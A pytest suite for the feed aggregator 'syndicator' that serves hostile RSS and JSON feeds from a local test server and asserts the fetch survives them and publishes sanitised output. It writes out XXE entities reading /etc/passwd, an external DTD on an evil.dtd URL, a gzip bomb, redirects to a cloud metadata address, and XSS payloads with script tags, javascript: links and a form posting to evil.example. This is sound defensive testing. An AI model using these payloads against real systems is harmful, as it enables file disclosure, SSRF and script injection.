"""Hostile partners, end to end (issue 7): one row per hazard, each a real `syndicator fetch`.

Every row serves one hostile feed from ``HostileServer`` on 127.0.0.1 beside a healthy feed,
runs ``syndicator fetch`` in a subprocess and checks that

- the pass completes (exit 0: the healthy feed was fetched and the output published);
- the healthy feed's stories are published, and every published file is complete, valid
  and free of live script (tests/published_checks.py);
- ``syndicator status --json`` names the problem: ``last_error`` of the hostile feed for a
  failure, its ``warning`` when the feed was usable but something was cut or repaired;
- the process's peak memory stays under ``PEAK_MEMORY_LIMIT`` and the pass under
  ``PASS_DEADLINE``. Peak memory is ``VmHWM`` of /proc/self/status, written by the process
  itself at exit: ``ru_maxrss`` of a child counts the pytest process it was forked from.

Set ``HOSTILE_REPORT=FILE`` to append one line per hazard (peak memory, seconds) to FILE.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any, Literal

import pytest
from hostile_server import HostileServer, gzip_bomb, rss, rss_item
from published_checks import check_published_folder

from syndicator.cli import main as syndicator_main

PEAK_MEMORY_LIMIT = 300 * 1024 * 1024  # bytes, the issue's bound for one pass
PASS_DEADLINE = 30.0  # seconds; slow hostile feeds have `timeout: 1s`, a pass takes ~1 s
DATA = Path(__file__).parent / "data" / "feeds"
HEALTHY_TITLES = {"Healthy story 1", "Healthy story 2", "Healthy story 3"}

# `syndicator fetch` as an operator runs it, except that with HOSTILE_LOOPBACK_IS_PUBLIC set
# 127.0.0.1 plays a public address, so a feed with `allow_private_networks: false` can be
# served here and redirect to a private one; and that it writes its peak memory (VmHWM,
# which exec resets, unlike ru_maxrss) to HOSTILE_PEAK_FILE when it exits.
LAUNCH = """
import atexit, ipaddress, os, sys
def write_peak():
    with open("/proc/self/status") as status:
        peak = next(line.split()[1] for line in status if line.startswith("VmHWM:"))
    with open(os.environ["HOSTILE_PEAK_FILE"], "w") as out:
        out.write(peak)
atexit.register(write_peak)
if os.environ.get("HOSTILE_LOOPBACK_IS_PUBLIC"):
    import syndicator.fetch as fetch
    real, loopback = fetch.is_public_address, ipaddress.ip_address("127.0.0.1")
    fetch.is_public_address = lambda address: address == loopback or real(address)
from syndicator.cli import main
sys.exit(main())
"""


@dataclass(frozen=True)
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_bytes: int  # VmHWM of the process
    seconds: float


def run_syndicator(
    args: list[str], *, loopback_is_public: bool = False, timeout: float = 120
) -> Run:
    """Run syndicator in a subprocess; it reports its own peak memory at exit."""
    with tempfile.TemporaryDirectory() as scratch:
        peak_file = Path(scratch) / "peak"
        env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200", "HOSTILE_PEAK_FILE": str(peak_file)}
        if loopback_is_public:
            env["HOSTILE_LOOPBACK_IS_PUBLIC"] = "1"
        started = time.monotonic()
        result = subprocess.run(
            [sys.executable, "-c", LAUNCH, *args],
            capture_output=True,
            text=True,
            env=env,
            timeout=timeout,
            check=False,
        )
        seconds = time.monotonic() - started
        peak_kib = int(peak_file.read_text()) if peak_file.exists() else 0
        return Run(result.returncode, result.stdout, result.stderr, peak_kib * 1024, seconds)


# --- the partners -----------------------------------------------------------------------


def healthy_feed() -> bytes:
    items = "".join(
        rss_item(f"Healthy story {n}", guid=f"h{n}", link=f"https://healthy.example.org/{n}")
        for n in (1, 2, 3)
    )
    return rss(items, title="Healthy partner").encode()


def good_hostile_feed() -> bytes:
    """What the hostile partner serves before it turns hostile (rows with ``first_good``)."""
    items = "".join(
        rss_item(f"Earlier story {n}", guid=f"e{n}", link=f"https://hostile.example.org/e{n}")
        for n in (1, 2)
    )
    return rss(items).encode()


@cache
def bomb() -> bytes:
    return gzip_bomb(128)  # 128 MiB of zeros in ~130 KB: 13 times the 10 MiB limit


@dataclass
class Setup:
    folder: Path
    server: HostileServer
    config: Path

    @property
    def output(self) -> Path:
        return self.folder / "public"

    def json_items(self, feed_id: str) -> list[dict[str, Any]]:
        document = json.loads((self.output / "all.json").read_text(encoding="utf-8"))
        return [i for i in document["items"] if i["_syndicator"]["source"]["id"] == feed_id]

    def db(self) -> sqlite3.Connection:
        return sqlite3.connect(self.folder / "syndicator.db")

    def status(self, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
        capsys.readouterr()
        assert syndicator_main(["status", "--json", "-c", str(self.config)]) == 0
        document = json.loads(capsys.readouterr().out)
        return {feed["id"]: feed for feed in document["feeds"]}


Check = Callable[[Setup], None]
Serve = Callable[[HostileServer, int], None]


@dataclass(frozen=True)
class Hazard:
    name: str
    serve: Serve  # puts the hazard at /hostile (and around it), for pass number N
    outcome: Literal["failed", "ok"]
    says: str  # in the hostile feed's last_error (failed) or warning (ok); "" for no warning
    feed: tuple[str, ...] = ()  # more feeds.yaml lines for the hostile feed
    url: str = "http://127.0.0.1:{port}/hostile"
    passes: int = 1  # fetch passes; serve() is called again before each
    first_good: bool = False  # a good pass first: a failure must not delete its stories
    loopback_is_public: bool = False
    check: Check | None = None


def route(body: bytes | str, **options: Any) -> Serve:
    data = body.encode() if isinstance(body, str) else body

    def serve(server: HostileServer, generation: int) -> None:
        server.set("/hostile", data, **options)

    return serve


def behaviour(name: str, *args: Any) -> Serve:
    def serve(server: HostileServer, generation: int) -> None:
        getattr(server, name)("/hostile", *args)

    return serve


def serve_bomb(server: HostileServer, generation: int) -> None:
    server.set("/hostile", bomb(), headers={"Content-Encoding": "gzip"})


# --- feeds and checks of the hazards ----------------------------------------------------

QUADRATIC = rss(
    rss_item("&big;" * 10_000),
    prolog=f'<!DOCTYPE rss [<!ENTITY big "{"x" * 100_000}">]>\n',
)
XXE = rss(
    rss_item("&secret;"), prolog='<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
)
PARAMETER_ENTITY = rss(
    rss_item("t"),
    prolog='<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n',
)
SURROGATES = rss(
    rss_item("Emoji half &#xD800; here", guid="s1", link="https://hostile.example.org/s1")
    + rss_item("Next item &#x110000;", guid="s2", link="https://hostile.example.org/s2")
)
CONTROLS = rss(
    rss_item(
        "Title\x00 with\x01 controls\ufffe\x1f",
        guid="c1",
        link="https://hostile.example.org/c1",
        description="Text\x00 with \x0b controls &#x0; &#1; \ufffe\uffff",
    )
).encode("utf-8")
HOSTILE_HTML = (
    "<p>Text</p><script>alert(1)</script>"
    '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(2)">b</a>'
    '<a href="java\tscript:alert(3)">c</a><img src="x.png" onerror="alert(4)">'
    '<svg><a xlink:href="javascript:alert(5)"><text>s</text></a></svg>'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNik+">'
    '<form action="https://evil.example/"><input name="pw"></form>'
    '<p onclick="alert(7)" style="x">p</p>'
    '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315">'
    "<script>alert(8)</script></iframe>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<object data="https://evil.example/x.swf"></object>'
)
SCRIPTED = rss(
    rss_item(
        "&lt;script&gt;alert(1)&lt;/script&gt;Scripted &lt;b onmouseover=alert(1)&gt;title",
        guid="x1",
        link="https://hostile.example.org/x1",
        description=HOSTILE_HTML.replace("&", "&amp;").replace("<", "&lt;"),
        extra=f"<content:encoded><![CDATA[{HOSTILE_HTML}]]></content:encoded>",
    )
    + rss_item("Link only", guid="x2", link="javascript:alert(9)")
)
DATES = rss(
    rss_item("Invalid date", guid="d1", link="https://h.example.org/d1", date="yesterday-ish")
    + rss_item("No date", guid="d2", link="https://h.example.org/d2", date=None)
    + rss_item(
        "Far future",
        guid="d3",
        link="https://h.example.org/d3",
        date="Fri, 01 Jan 9999 00:00:00 GMT",
    )
    + rss_item(
        "Year 1900",
        guid="d4",
        link="https://h.example.org/d4",
        date="Mon, 01 Jan 1900 00:00:00 GMT",
    )
    + rss_item(
        "Epoch zero",
        guid="d5",
        link="https://h.example.org/d5",
        date="Thu, 01 Jan 1970 00:00:00 GMT",
    )
    + rss_item("Year zero", guid="d6", link="https://h.example.org/d6", date="0000-00-00T00:00:00Z")
)


def many_entries(count: int) -> bytes:
    items = "".join(
        f"<item><title>Entry {n}</title><guid>n{n}</guid><link>https://h.example.org/{n}</link></item>"
        for n in range(count)
    )
    return rss(items).encode()


def many_json_items(count: int) -> bytes:
    items = [
        {"id": f"n{n}", "title": f"Entry {n}", "url": f"https://h.example.org/{n}"}
        for n in range(count)
    ]
    document = {"version": "https://jsonfeed.org/version/1.1", "title": "Big", "items": items}
    return json.dumps(document).encode()


def changing_guids(server: HostileServer, generation: int) -> None:
    items = "".join(
        rss_item(f"Story {n}", guid=f"gen{generation}-{n}", link=f"https://h.example.org/{n}")
        for n in (1, 2, 3)
    )
    server.set("/hostile", rss(items).encode())


def hostile_titles(setup: Setup) -> list[str]:
    return sorted(item["title"] for item in setup.json_items("hostile"))


def expect_titles(*titles: str) -> Check:
    def check(setup: Setup) -> None:
        assert hostile_titles(setup) == sorted(titles)

    return check


def check_scripted(setup: Setup) -> None:
    items = {item["title"]: item for item in setup.json_items("hostile")}
    assert set(items) == {"Scripted title", "Link only"}
    assert "url" not in items["Link only"]  # javascript: is no link
    html = items["Scripted title"]["content_html"]
    assert '<iframe src="https://www.youtube.com/embed/abc"' in html
    assert 'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"' in html
    assert "evil.example" not in html and "alert" not in html


def check_one_story_per_item(expected: int) -> Check:
    def check(setup: Setup) -> None:
        with setup.db() as db:
            stories = db.execute(
                "SELECT COUNT(DISTINCT story_id) FROM entries WHERE feed_id = 'hostile'"
            ).fetchone()[0]
        assert stories == expected
        assert len(setup.json_items("hostile")) == expected

    return check


def check_dates(setup: Setup) -> None:
    items = setup.json_items("hostile")
    assert len(items) == 6
    now = datetime.now(UTC)
    for item in items:
        published = datetime.fromisoformat(item["date_published"])
        assert datetime(2000, 1, 1, tzinfo=UTC) < published <= now, item


def check_stored_entries(count: int) -> Check:
    def check(setup: Setup) -> None:
        with setup.db() as db:
            stored = db.execute("SELECT COUNT(*) FROM entries WHERE feed_id = 'hostile'")
            assert stored.fetchone()[0] == count

    return check


def check_short_title(setup: Setup) -> None:
    (title,) = hostile_titles(setup)
    assert title.startswith("TTT") and len(title) <= 500


def check_raw_guid(setup: Setup) -> None:
    with setup.db() as db:
        keys = [
            row[0] for row in db.execute("SELECT entry_key FROM entries WHERE feed_id = 'hostile'")
        ]
    assert keys == ["item-42"]
    (item,) = setup.json_items("hostile")
    assert "url" not in item  # a guid that is no URL is not taken for a link


def published_files(output: Path) -> dict[str, bytes]:
    """Every published file (tags/ and partners/ included) by its path in the folder."""
    return {str(p.relative_to(output)): p.read_bytes() for p in output.rglob("*") if p.is_file()}


def check_nothing_leaked(setup: Setup) -> None:
    for path in setup.output.rglob("*"):  # tags/ and partners/ too
        assert not path.is_file() or b"root:" not in path.read_bytes()


def check_dtd_never_fetched(setup: Setup) -> None:
    assert setup.server.requests_for("/evil.dtd") == []
    assert hostile_titles(setup) == ["External DTD"]


def serve_external_dtd(server: HostileServer, generation: int) -> None:
    server.set(
        "/evil.dtd",
        b'<!ENTITY leak SYSTEM "file:///etc/passwd">',
        content_type="application/xml-dtd",
    )
    prolog = f'<!DOCTYPE rss SYSTEM "{server.url("/evil.dtd")}">\n'
    server.set("/hostile", rss(rss_item("External DTD", guid="dtd"), prolog=prolog).encode())


def redirect_to(location: str) -> Serve:
    def serve(server: HostileServer, generation: int) -> None:
        server.redirect("/hostile", location)

    return serve


def redirect_loop(server: HostileServer, generation: int) -> None:
    server.redirect("/hostile", "/hostile-2")
    server.redirect("/hostile-2", "/hostile")


def deep_html() -> bytes:
    # 250 KB (under the 256 KiB field limit) of unclosed <div>: ~7 s in nh3 without the guard
    nested = "<div>" * 50_000 + "deep"
    item = rss_item("Deep", guid="deep", description=nested.replace("<", "&lt;"))
    return rss(item).encode()


HAZARDS = [
    # XML entities: refused before parsing, nothing expanded, nothing read
    Hazard(
        "billion-laughs",
        route((DATA / "billion_laughs.xml").read_bytes()),
        "failed",
        "declares XML entities",
    ),
    Hazard("quadratic-blowup", route(QUADRATIC), "failed", "declares XML entities"),
    Hazard("xxe-file", route(XXE), "failed", "declares XML entities", check=check_nothing_leaked),
    Hazard("xxe-parameter-entity", route(PARAMETER_ENTITY), "failed", "declares XML entities"),
    Hazard("external-dtd", serve_external_dtd, "ok", "", check=check_dtd_never_fetched),
    # sizes, deadlines, redirects
    Hazard("gzip-bomb", serve_bomb, "failed", "larger than the limit of 10 MiB"),
    Hazard("endless-body", behaviour("endless"), "failed", "larger than the limit of 10 MiB"),
    Hazard(
        "huge-content-length",
        behaviour("huge_length", 50 * 1024**3),
        "failed",
        "larger than the limit",
    ),
    Hazard(
        "slowloris",
        behaviour("dribble", rss(rss_item("slow")).encode()),
        "failed",
        "no complete response within 1 s",
        feed=("timeout: 1s",),
    ),
    Hazard(
        "no-response",
        behaviour("silent"),
        "failed",
        "no complete response within 1 s",
        feed=("timeout: 1s",),
    ),
    Hazard("redirect-loop", redirect_loop, "failed", "more than 5 redirects"),
    Hazard(
        "redirect-to-metadata",
        redirect_to("http://169.254.169.254/latest/meta-data/"),
        "failed",
        "169.254.169.254 is a link-local address",
        feed=("allow_private_networks: false",),
        loopback_is_public=True,
    ),
    Hazard(
        "redirect-to-private",
        redirect_to("http://10.0.0.1/feed"),
        "failed",
        "10.0.0.1 is a private address",
        feed=("allow_private_networks: false",),
        loopback_is_public=True,
    ),
    Hazard(
        "redirect-to-file", redirect_to("file:///etc/passwd"), "failed", "is not an http(s) URL"
    ),
    # characters and encodings
    Hazard(
        "surrogate-char-ref",
        route(SURROGATES),
        "ok",
        "replaced 2 character reference(s)",
        check=expect_titles("Emoji half \ufffd here", "Next item \ufffd"),
    ),
    Hazard(
        "surrogate-in-utf16",
        route(
            SURROGATES.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16"),
            content_type="application/rss+xml",  # no charset=utf-8 to contradict the body
        ),
        "failed",
        "lone UTF-16 surrogate",
    ),
    Hazard(
        "latin1-declared-utf8",
        route(rss(rss_item("Café naïve", guid="l1")).encode("latin-1")),
        "ok",
        "declared as utf-8, but parsed as windows-1252",
        check=expect_titles("Café naïve"),
    ),
    Hazard(
        "unknown-encoding",
        route(
            rss(rss_item("Café", guid="u1"), encoding="x-bogus-42").encode(),
            content_type="application/rss+xml",  # the body alone names its encoding
        ),
        "ok",
        "declared as x-bogus-42",
        check=expect_titles("Café"),
    ),
    Hazard(
        "control-characters",
        route(CONTROLS),
        "ok",
        "not well-formed",
        check=expect_titles("Title with controls"),
    ),
    # markup
    Hazard("script-and-friends", route(SCRIPTED), "ok", "", check=check_scripted),
    Hazard("deeply-nested-html", route(deep_html()), "ok", "", check=expect_titles("Deep")),
    Hazard(
        "deeply-nested-xml",
        route(rss(rss_item("x", description="<x>" * 3_000_000))),
        "failed",
        "more than 250000 tags",
    ),
    # not a feed: an error in status, the stories of the good pass stay
    Hazard("empty-200", route(b""), "failed", "empty response body", first_good=True),
    Hazard(
        "html-page",
        route(
            b"<!DOCTYPE html><html><head><title>Maintenance</title></head><body>down</body></html>",
            content_type="text/html",
        ),
        "failed",
        "HTML page",
        first_good=True,
    ),
    Hazard(
        "truncated-xml",
        route((DATA / "truncated_early.xml").read_bytes()),
        "failed",
        "not a feed",
        first_good=True,
    ),
    Hazard(
        "garbage-json",
        route(
            b'{"version": "https://jsonfeed.org/version/1.1", "items": [',
            content_type="application/feed+json",
        ),
        "failed",
        "invalid JSON",
        first_good=True,
    ),
    # HTTP and network outcomes
    Hazard("http-404", route(b"no", status=404), "failed", "HTTP 404 Not Found"),
    Hazard("http-410", route(b"gone", status=410), "failed", "remove it from feeds.yaml"),
    Hazard(
        "http-429-retry-after",
        route(b"", status=429, headers={"Retry-After": "120"}),
        "failed",
        "wait 120 s",
    ),
    Hazard(
        "http-503-retry-after-date",
        route(b"", status=503, headers={"Retry-After": "Fri, 01 Jan 2100 00:00:00 GMT"}),
        "failed",
        "HTTP 503",
    ),
    Hazard(
        "http-500",
        route(b"oops", status=500),
        "failed",
        "HTTP 500 Internal Server Error",
        first_good=True,
    ),
    Hazard("tls-error", route(b""), "failed", "TLS error", url="https://127.0.0.1:{port}/hostile"),
    Hazard(
        "connection-cut-mid-body",
        behaviour("cut_short", many_entries(50)),
        "failed",
        "broke the HTTP protocol",
    ),
    Hazard("not-http", behaviour("raw", b"HELLO\r\n\r\n"), "failed", "broke the HTTP protocol"),
    # identity: nothing duplicated, nothing lost
    Hazard(
        "guids-change-every-fetch",
        changing_guids,
        "ok",
        "",
        passes=2,
        check=check_one_story_per_item(3),
    ),
    Hazard(  # what could be read is kept; the warning says so, and stays while the body does
        "cut-off-after-two-entries",
        route(
            rss(
                "".join(
                    rss_item(f"Complete {n}", link=f"https://h.example.org/c{n}") for n in (1, 2)
                )
            )
            .replace("</channel>", "<item><title>Cut here</title><link>https://h.ex")
            .removesuffix("</rss>")
        ),
        "ok",
        "the feed is malformed or cut off",
        passes=2,
        # The third, cut in the middle, is left out: what feedparser read of it (a title,
        # half a link) would be published with a broken link, or wipe a stored copy.
        check=check_one_story_per_item(2),
    ),
    Hazard(
        "no-guids",
        route(
            rss(
                "".join(
                    rss_item(f"No guid {n}", link=f"https://h.example.org/ng{n}") for n in (1, 2, 3)
                )
            )
        ),
        "ok",
        "",
        passes=2,
        check=check_one_story_per_item(3),
    ),
    Hazard(
        "same-guid-for-different-items",
        route(
            rss(
                "".join(
                    rss_item(f"Shared {n}", guid="same", link=f"https://h.example.org/s{n}")
                    for n in range(5)
                )
            )
        ),
        "ok",
        "",
        passes=2,
        check=check_one_story_per_item(5),
    ),
    Hazard(
        "guid-without-ispermalink",
        route(
            rss(rss_item("Relative guid", guid="item-42")).replace(
                "<channel>", '<channel xml:base="https://hostile.example.org/feeds/">'
            )
        ),
        "ok",
        "",
        check=check_raw_guid,
    ),
    # dates
    Hazard("invalid-missing-future-ancient-dates", route(DATES), "ok", "", check=check_dates),
    # enormous fields, enormous feeds
    Hazard(
        "five-mb-title",
        route(rss(rss_item("T" * 5 * 1024 * 1024, guid="big"))),
        "ok",
        "cut oversized fields: 1 titles",
        check=check_short_title,
    ),
    Hazard(
        "huge-content",
        route(rss(rss_item("Huge", guid="huge", description="&lt;p&gt;" + "word " * 120_000))),
        "ok",
        "1 summaries",
        check=expect_titles("Huge"),
    ),
    Hazard(
        "100k-entries",
        route(many_entries(100_000)),
        "ok",
        "the feed has 100000 entries; kept the first 1000",
        check=check_stored_entries(1000),
    ),
    Hazard(
        "100k-json-items",
        route(many_json_items(100_000), content_type="application/feed+json"),
        "ok",
        "the feed has 100000 entries; kept the first 1000",
        check=check_stored_entries(1000),
    ),
    Hazard(
        "1.4m-tiny-entries",
        route(rss("<item/>" * 1_400_000)),
        "ok",
        "the feed has 1400000 entries; kept the first 1000",
        check=check_stored_entries(0),
    ),
]


def write_config(folder: Path, server: HostileServer, hazard: Hazard) -> Path:
    lines = [
        "site:",
        "  title: Hostile test",
        "  url: https://feeds.example.org/",
        "  max_items: 2000",
        "storage:",
        "  database: syndicator.db",
        "  output_dir: public",
        "allow_private_networks: true  # the partners are on 127.0.0.1",
        "feeds:",
        "  - id: healthy",
        f"    url: {server.url('/healthy')}",
        "  - id: hostile",
        f"    url: {hazard.url.format(port=server.port)}",
        *(f"    {line}" for line in hazard.feed),
    ]
    config = folder / "feeds.yaml"
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return config


@pytest.fixture
def server() -> Iterator[HostileServer]:
    with HostileServer() as hostile:
        hostile.set("/healthy", healthy_feed())
        yield hostile


def report(hazard: Hazard, runs: list[Run]) -> None:
    target = os.environ.get("HOSTILE_REPORT")
    if target:
        with Path(target).open("a", encoding="utf-8") as stream:
            peak = max(r.peak_bytes for r in runs) / 1024 / 1024
            seconds = max(r.seconds for r in runs)
            stream.write(f"{hazard.name}\t{peak:.0f} MiB\t{seconds:.2f} s\n")


@pytest.mark.parametrize("hazard", HAZARDS, ids=[h.name for h in HAZARDS])
def test_hostile_partner(
    hazard: Hazard, server: HostileServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    setup = Setup(tmp_path, server, write_config(tmp_path, server, hazard))
    config = ["fetch", "-c", str(setup.config)]
    if hazard.first_good:
        server.set("/hostile", good_hostile_feed())
        assert run_syndicator(config).returncode == 0
        assert hostile_titles(setup) == ["Earlier story 1", "Earlier story 2"]

    runs = []
    for generation in range(hazard.passes):
        hazard.serve(server, generation)
        run = run_syndicator(config, loopback_is_public=hazard.loopback_is_public)
        runs.append(run)
        if generation == hazard.passes - 1:
            report(hazard, runs)
        # the pass completes: the healthy feed was fetched and everything was published
        assert run.returncode == 0, f"exit {run.returncode}\n{run.stdout}\n{run.stderr}"
        assert 0 < run.peak_bytes < PEAK_MEMORY_LIMIT, f"{run.peak_bytes / 2**20:.0f} MiB"
        assert run.seconds < PASS_DEADLINE

    # the healthy partner's stories are published, and every file is complete and safe
    titles = {item["title"] for item in setup.json_items("healthy")}
    assert titles == HEALTHY_TITLES
    # 4 feeds x 3 formats, webinars.ics, sources.opml, index.html, partners/<id>.atom x 2
    assert len(check_published_folder(setup.output)) == 17

    # the hostile feed's status names the problem
    status = setup.status(capsys)
    hostile, healthy = status["hostile"], status["healthy"]
    assert healthy["health"] == "ok" and healthy["last_error"] is None
    if hazard.outcome == "failed":
        assert hostile["health"] in ("failing", "disabled"), hostile  # 410 Gone: disabled
        assert hostile["last_outcome"] == "failed"
        assert hostile["last_error"].startswith("hostile: ")
        assert hazard.says in hostile["last_error"], hostile["last_error"]
        if hazard.first_good:  # a broken feed never deletes what was stored
            assert hostile_titles(setup) == ["Earlier story 1", "Earlier story 2"]
    else:
        assert hostile["health"] == "ok", hostile
        assert hostile["last_error"] is None
        if hazard.says:
            assert hostile["warning"] is not None and hazard.says in hostile["warning"]
        else:
            assert hostile["warning"] is None, hostile["warning"]
    if hazard.check is not None:
        hazard.check(setup)

    with setup.db() as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_every_hazard_of_the_issue_has_a_row() -> None:
    names = {h.name for h in HAZARDS}
    assert len(names) == len(HAZARDS)
    for required in (
        "billion-laughs",
        "xxe-file",
        "gzip-bomb",
        "endless-body",
        "slowloris",
        "redirect-loop",
        "redirect-to-metadata",
        "surrogate-char-ref",
        "control-characters",
        "script-and-friends",
        "empty-200",
        "html-page",
        "truncated-xml",
        "http-429-retry-after",
        "http-404",
        "http-410",
        "http-500",
        "tls-error",
        "no-response",
        "guids-change-every-fetch",
        "no-guids",
        "same-guid-for-different-items",
        "invalid-missing-future-ancient-dates",
        "five-mb-title",
        "100k-entries",
        "guid-without-ispermalink",
    ):
        assert required in names


def test_bad_operator_input_loses_nothing(server: HostileServer, tmp_path: Path) -> None:
    keep = Hazard("keep", route(good_hostile_feed()), "ok", "")
    setup = Setup(tmp_path, server, write_config(tmp_path, server, keep))
    keep.serve(server, 0)
    args = ["fetch", "-c", str(setup.config)]
    assert run_syndicator(args).returncode == 0
    assert hostile_titles(setup) == ["Earlier story 1", "Earlier story 2"]
    published = published_files(setup.output)
    stored = (tmp_path / "syndicator.db").read_bytes()

    # an invalid feeds.yaml never starts a pass: nothing fetched, stored or published
    good = setup.config.read_text(encoding="utf-8")
    setup.config.write_text(good.replace("  - id: hostile", "  - id: Hostile!"), encoding="utf-8")
    server.clear_requests()
    refused = run_syndicator(args)
    assert refused.returncode == 1 and "feeds[1].id" in refused.stderr
    assert server.requests == []
    assert published_files(setup.output) == published
    assert (tmp_path / "syndicator.db").read_bytes() == stored

    # a feed removed from feeds.yaml keeps its stories, published and credited by id
    setup.config.write_text(good.split("  - id: hostile")[0], encoding="utf-8")
    assert run_syndicator(args).returncode == 0
    assert hostile_titles(setup) == ["Earlier story 1", "Earlier story 2"]
    with setup.db() as db:
        assert (
            db.execute("SELECT COUNT(*) FROM entries WHERE feed_id = 'hostile'").fetchone()[0] == 2
        )
